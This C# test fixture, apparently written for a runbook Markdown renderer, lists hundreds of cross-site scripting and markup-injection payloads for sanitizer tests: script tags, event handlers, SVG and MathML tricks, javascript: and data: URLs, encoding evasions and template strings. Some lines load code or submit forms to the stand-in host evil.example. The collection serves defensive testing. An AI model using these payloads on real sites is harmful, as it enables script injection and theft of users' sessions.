namespace OpsConsole.Core.Tests.Runbooks.Rendering;

/// <summary>
/// What people who mean harm write where text is due, in the manner of the lists of filter evasions: each of them has got past some filter at some time.
/// Every one of them calls <c>alert</c>, leads off the page, or loads something from elsewhere.
/// </summary>
internal static class HostileMarkup
{
    public static IReadOnlyList<string> Scripts { get; } =
    [
        "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<ScRiPt>alert(1)</sCrIpT>", "<script >alert(1)</script >", "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>",
        "<script\t>alert(1)</script>", "<script\f>alert(1)</script>", "<script/src=//evil.example/x.js></script>", "<script src=//evil.example/x.js>", "<script>alert(1)", "<<script>alert(1);//<</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<scr\0ipt>alert(1)</scr\0ipt>", "<script>alert(1)//", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
        "</code></pre><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
        "<!--><script>alert(1)</script-->", "<!-- --!><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><script>alert(1)</script>", "<%<script>alert(1)</script>%>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "＜script＞alert(1)＜/script＞", "<script\u00a0>alert(1)</script>", "<ſcript>alert(1)</ſcript>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<script type=module>import'//evil.example/x'</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>", "<xmp><script>alert(1)</script></xmp>", "<plaintext><script>alert(1)",
        "\\<script>alert(1)\\</script>", "<script>alert`1`</script>",
    ];

    public static IReadOnlyList<string> Handlers { get; } =
    [
        "<img src=x onerror=alert(1)>", "<IMG SRC=x ONERROR=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<img src=x onerror\n=alert(1)>", "<img src=x onerror\0=alert(1)>",
        "<img src=x:x onerror=&#97;lert(1)>", "<img \"\"\"><script>alert(1)</script>\">", "<img src=`x`onerror=alert(1)>", "<img src='x'onerror='alert(1)'>", "<img srcset=//evil.example/x>", "<img src=//evil.example/x.png>",
        "<body onload=alert(1)>", "<body/onload=alert(1)>", "<div onmouseover=alert(1)>x</div>", "<p onclick=alert(1)>x</p>", "<a onclick=alert(1)>x</a>", "<b onmouseover=alert(1)>x</b>",
        "<input onfocus=alert(1) autofocus>", "<select onfocus=alert(1) autofocus>", "<textarea onfocus=alert(1) autofocus>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
        "<video><source onerror=alert(1)>", "<video src=x onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<button onclick=alert(1)>x</button>", "<style onload=alert(1)></style>", "<keygen onfocus=alert(1)>",
        "<x onclick=alert(1)>x</x>", "<x contenteditable onblur=alert(1)>x</x>", "<div style=\"animation-name:x\" onanimationstart=alert(1)>", "<a onpointerenter=alert(1)>x</a>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "` onmouseover=`alert(1)",
        "\" autofocus onfocus=alert(1) x=\"", "x\" style=\"position:fixed;inset:0\" onclick=\"alert(1)",
    ];

    public static IReadOnlyList<string> Elements { get; } =
    [
        "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><script>alert&#40;1)</script>", "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\">", "<svg><foreignObject><body onload=alert(1)>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math href=\"javascript:alert(1)\">x</math>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<iframe src=javascript:alert(1)>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<IFRAME SRC=//evil.example>", "<frameset><frame src=javascript:alert(1)>", "<object data=javascript:alert(1)>", "<object data=data:text/html,<script>alert(1)</script>>",
        "<embed src=javascript:alert(1)>", "<embed src=//evil.example/x.swf>", "<applet code=x>", "<style>*{background:url(//evil.example)}</style>", "<style>@import'//evil.example/x.css';</style>", "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=import href=//evil.example>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<base href=//evil.example/>", "<base target=x>",
        "<form action=//evil.example><input type=submit>", "<form><button formaction=javascript:alert(1)>x", "<isindex action=javascript:alert(1) type=image>", "<table background=javascript:alert(1)>", "<td background=javascript:alert(1)>",
        "<div style=\"background:url(javascript:alert(1))\">", "<div style=\"width:expression(alert(1))\">", "<dialog open>x</dialog>", "<portal src=//evil.example>", "<layer src=//evil.example>", "<bgsound src=javascript:alert(1)>",
        "<input type=image src=x onerror=alert(1)>", "<input type=hidden oncontentvisibilityautostatechange=alert(1)>", "<slot name=x>", "<component-x></component-x>", "<a href=\"javascript:alert(1)\">x</a>", "<a href=javascript&colon;alert(1)>x</a>", "<a id=forms name=cookie>x</a>",
        "<canvas>", "<title>x</title>", "<head>", "<html onclick=alert(1)>",
    ];

    /// <summary>Addresses: they are tried in links, images, definitions and autolinks.</summary>
    public static IReadOnlyList<string> Addresses { get; } =
    [
        "javascript:alert(1)", "JAVASCRIPT:alert(1)", "JaVaScRiPt:alert(1)", "javascript:alert(1)//https://example.com", "javascript://example.com/%0aalert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java\0script:alert(1)",
        "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3A;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "javascript%3Aalert(1)",
        "%6Aavascript:alert(1)", "\u0001javascript:alert(1)", "\u00a0javascript:alert(1)", "\ufeffjavascript:alert(1)", "\u200bjavascript:alert(1)", "javascript\u200b:alert(1)", "ｊavascript:alert(1)", "javaſcript:alert(1)", "javascript：alert(1)", " javascript:alert(1)",
        "&#1;javascript:alert(1)", "&#32;javascript:alert(1)", "\\javascript:alert(1)", "./javascript:alert(1)", "jav&#x09;ascript:alert(1)", "jav&#x0A;ascript:alert(1)", "jav&#x0D;ascript:alert(1)", "view-source:javascript:alert(1)", "feed:javascript:alert(1)",
        "vbscript:msgbox(1)", "VBScript:msgbox(1)", "vbscript&colon;msgbox(1)", "livescript:alert(1)", "mocha:alert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:text/html,x", "data:image/svg+xml,<svg/onload=alert(1)>",
        "data:,x", "data&colon;text/html,x", "data:image/png;base64,iVBORw0KGgo=", "blob:https://example.com/x", "file:///etc/passwd", "ftp://evil.example/x", "about:blank", "chrome://settings", "ms-msdt:/id", "intent://x#Intent;end", "tel:112", "sms:112", "ws://evil.example", "jar:http://evil.example!/x",
        "filesystem:http://evil.example/x", "//evil.example", "///evil.example", "////evil.example", "\\\\evil.example", "/\\evil.example", "\\/evil.example", "/\t/evil.example", "//evil.example/%2f..", "/%5cevil.example", "/api/actions/run", "/sign-out", "../../sign-out", "../api/x.md/../../y", "?x=javascript:alert(1)",
        "https:evil.example", "http:\\\\evil.example", "https:\\evil.example", "https://evil.example\\@example.com", "http://[::1", "https://", "https:///evil.example", "http://evil.example\"onmouseover=\"alert(1)", "https://evil.example/'onmouseover='alert(1)", "https://evil.example/><script>alert(1)</script>",
        "mailto:x@example.com\"onclick=\"alert(1)", "mailto:x@example.com%0d%0aBcc:y", "#\"onclick=\"alert(1)", "#<script>", "#javascript:alert(1)", "#../x", "other.md#\"onclick=\"alert(1)", "../../x/y.md", "..%2f..%2fx.md", "../a/b/c.md", "x\".md", "..\\x\\y.md", "./../x/y.md", "x.png\"onerror=\"alert(1)", "x.svg#<script>", "..png",
        "../x.png", "https://evil.example/x.png", "x.png?y", "%2e%2e/x.png", "{{annotations.summary}}", "{{labels.pod}}", "https://{{labels.pod}}/", "java{{labels.pod}}script:alert(1)", "{{labels.scheme}}:alert(1)", "{{labels.scheme}}alert(1)",
    ];

    /// <summary>What Markdown itself makes of brackets, emphasis, code and tables when they are broken.</summary>
    public static IReadOnlyList<string> Tricks { get; } =
    [
        "[a]({onclick=alert(1)})", "[a](https://example.com){onclick=alert(1)}", "# a {onclick=alert(1)}", "### a {#x onclick=alert(1)}", "#### a {#\"onclick=\"alert(1)}", "text {.class onclick=alert(1)}", "{onclick=alert(1)}\ntext", "**a**{onclick=alert(1)}", "`a`{onclick=alert(1)}",
        "![a\" onerror=\"alert(1)](x.png)", "![a](x.png \"b\" onerror=\"alert(1)\")", "![a](x.png 'b\" onerror=\"alert(1)')", "![<script>alert(1)</script>](x.png)", "![a][b]\n\n[b]: x.png \"c\\\" onerror=\\\"alert(1)\"", "![a](<x.png\" onerror=\"alert(1)>)", "![![a](javascript:alert(1))](x.png)",
        "[a](https://example.com \"b\" onclick=\"alert(1)\")", "[a](https://example.com 'b\" onclick=\"alert(1)')", "[a](https://example.com (b\" onclick=\"alert(1)))", "[a](<https://example.com\" onclick=\"alert(1)>)", "[<script>alert(1)</script>](https://example.com)", "[![a](javascript:alert(1))](javascript:alert(1))",
        "[[a](javascript:alert(1))](https://example.com)", "[a](https://example.com/[b](javascript:alert(1)))", "[a]\n(javascript:alert(1))", "[a][]\n\n[a]: javascript:alert(1)", "[a]\n\n[a]: <javascript:alert(1)>", "[a]\n\n[a]:\njavascript:alert(1)", "[a]\n\n[a]: x \"\n<script>alert(1)</script>\n\"",
        "**<img src=x onerror=alert(1)**>", "*<img **src=x* onerror=alert(1)>**", "`<script>`alert(1)`</script>`", "``` <script>alert(1)</script>\nx\n```", "```\"onmouseover=\"alert(1)\nx\n```", "```html\"><script>alert(1)</script>\nx\n```", "~~~'><script>alert(1)</script>\nx\n~~~", "```js onclick=alert(1)\nalert(1)\n```",
        "```yaml\n\"</span><script>alert(1)</script>\n```", "```sh\n'</code></pre><script>alert(1)</script>'\n```", "    <script>alert(1)</script>", "> [!<script>alert(1)</script>]\n> x", "> [!NOTE\" onclick=\"alert(1)]\n> x", "> [!WARNING]\n> <script>alert(1)</script>", "> [!x\"]\n> y",
        "|a|\n|-|\n|<script>alert(1)</script>|", "|a|b|\n|:-|-:|\n|`<img src=x onerror=alert(1)>`|[a](javascript:alert(1))|", "|a\" onclick=\"alert(1)|\n|-|\n|x|", "|a|\n|:-\" style=\"x|\n|x|", "|<b|>|\n|-|-|\n|<img src=x|onerror=alert(1)>|", "[^1]\n\n[^1]: <script>alert(1)</script>", "[^<script>]", ":::onclick=alert(1)\nx\n:::",
        "- [x] <script>alert(1)</script>", "- [\"onclick=\"alert(1)] x", "1000000000. x\n1\" onclick=\"alert(1). y", "<https://example.com\"onclick=\"alert(1)>", "<javascript:alert(1)>", "<x@example.com\"onclick=\"alert(1)>", "<mailto:x@example.com>", "www.evil.example\"onclick=\"alert(1)", "https://evil.example/<script>alert(1)</script>", "https://evil.example/'\"><img src=x onerror=alert(1)>",
        "{{ labels.pod }}", "{{ labels.pod\" onclick=\"alert(1) }}", "{{ labels.<script> }}", "{{ annotations.summary }}", "`{{ annotations.summary }}`", "[{{ labels.pod }}](https://example.com)", "![{{ labels.pod }}](x.png)", "#### {{ labels.pod }}", "\\{\\{ labels.pod }}", "&#123;&#123; labels.pod }}", "$$<script>alert(1)</script>$$", ":smile<script>:", "==<b>==", "\"\"<i>\"\"", "^^\n<u>",
        "[toc]\n[a]: javascript:alert(1) 'x'", "*[<b>]: <script>alert(1)</script>\n<b>", "Term\n:   <script>alert(1)</script>", "+++\n<script>\n+++", "---\ntitle: <script>\n---", "<!-- -->\n[a](javascript:alert(1))", "\u202e<script>alert(1)</script>", "a\u0000<script>b", "\ud800<script>alert(1)</script>", "<\u0000script>alert(1)</script>",
    ];

    /// <summary>All of them as text.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Scripts, .. Handlers, .. Elements, .. Addresses, .. Tricks];
}
